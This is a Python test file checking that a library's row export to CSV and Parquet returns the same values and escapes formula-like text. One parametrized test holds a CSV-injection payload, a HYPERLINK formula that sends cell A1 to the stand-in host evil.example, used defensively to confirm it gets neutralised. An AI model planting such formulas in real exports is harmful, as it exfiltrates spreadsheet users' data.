"""Rows as CSV and Parquet: the same values back, and nothing a spreadsheet would run."""

from __future__ import annotations

import csv
import json
import sys
from io import BytesIO, StringIO
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from marsad.tables import Format, MissingExtraError, write_rows

FIELDS = ["id", "title", "body", "authors", "provenance", "live", "hits"]


def _row(**values: Any) -> dict[str, Any]:
    usual: dict[str, Any] = {
        "id": 1,
        "title": "مكتبة جديدة",
        "body": ["الفقرة الأولى.", "الفقرة الثانية."],
        "authors": ["ليلى"],
        "provenance": {"title": "meta"},
        "live": False,
        "hits": None,
    }
    return usual | values


def _csv(*rows: dict[str, Any]) -> list[dict[str, str]]:
    file = BytesIO()
    write_rows(rows, FIELDS, "csv", file)
    return list(csv.DictReader(StringIO(file.getvalue().decode("utf-8-sig"), newline="")))


def test_a_csv_file_says_that_it_is_utf_8_and_names_its_fields() -> None:
    file = BytesIO()
    assert write_rows([_row()], FIELDS, "csv", file) == 1
    assert file.getvalue().startswith(b"\xef\xbb\xbfid,title,body")


def test_the_values_of_a_row_come_back_from_csv() -> None:
    (row,) = _csv(_row(title='نقطة، وفاصلة; و"اقتباس"'))
    assert row["title"] == 'نقطة، وفاصلة; و"اقتباس"'
    assert row["body"].split("\n") == ["الفقرة الأولى.", "الفقرة الثانية."]
    assert json.loads(row["authors"]) == ["ليلى"]
    assert (row["id"], row["live"], row["hits"]) == ("1", "false", "")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "＝"])
def test_no_text_of_a_site_becomes_a_formula(start: str) -> None:
    evil = f'{start}HYPERLINK("https://evil.example/?"&A1)'
    (row,) = _csv(_row(title=evil, body=[evil]))
    assert row["title"] == f"'{evil}"
    assert row["body"].startswith("'")


@given(st.text(), st.lists(st.text(), max_size=3))
def test_whatever_the_texts_a_csv_row_is_one_row_and_no_formula(
    title: str, body: list[str]
) -> None:
    rows = _csv(_row(title=title, body=body), _row(id=2))
    assert [row["id"] for row in rows] == ["1", "2"]
    assert not any(cell[:1] in {*"=+-@"} for cell in rows[0].values())


@given(st.lists(st.text(), max_size=3), st.one_of(st.none(), st.integers(0, 2**60)))
def test_parquet_gives_back_texts_lists_and_numbers(body: list[str], hits: int | None) -> None:
    parquet = pytest.importorskip("pyarrow.parquet", reason="no pyarrow: install marsad[parquet]")
    file = BytesIO()
    assert write_rows([_row(body=body, hits=hits)] * 3, FIELDS, "parquet", file) == 3
    (found, *_) = parquet.read_table(BytesIO(file.getvalue())).to_pylist()
    assert found["body"] == [one.encode("utf-8", "replace").decode() for one in body]
    assert (found["hits"], found["live"]) == (hits, False)
    assert json.loads(found["provenance"]) == {"title": "meta"}


@pytest.mark.parametrize("form", ["jsonl", "csv", "parquet"])
def test_half_a_surrogate_pair_stops_no_format(form: Format) -> None:
    if form == "parquet":
        pytest.importorskip("pyarrow", reason="no pyarrow: install marsad[parquet]")
    file = BytesIO()
    assert write_rows([_row(title="\ud800", body=["\udfff"])], FIELDS, form, file) == 1


def test_parquet_without_its_library_says_what_to_install(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(MissingExtraError, match=r"pip install 'marsad\[parquet\]'"):
        write_rows([_row()], FIELDS, "parquet", BytesIO())
